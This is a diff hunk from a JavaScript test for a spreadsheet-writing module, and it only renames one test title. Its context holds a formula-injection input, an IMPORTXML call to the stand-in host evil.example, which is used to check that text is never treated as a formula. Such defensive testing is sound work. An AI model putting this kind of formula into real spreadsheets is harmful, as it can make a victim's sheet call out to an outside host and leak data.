@@ -71,7 +71,7 @@ describe('rows reach their tab', () => {
     expect([write?.[1], read?.[1]]).toEqual([2, 4 + 2]);
   });
 
-  it('keeps numbers, booleans and text what they are; text is never a formula, a date or a number', async () => {
+  it('keeps numbers, booleans and text what they are; text is never a formula, a date or a number (case 64)', async () => {
     const evil = '=IMPORTXML("http://evil.example","//a")';
     stand.put(
       row(1, { Name: evil, Phone: '+41 78 000 00 01' }),
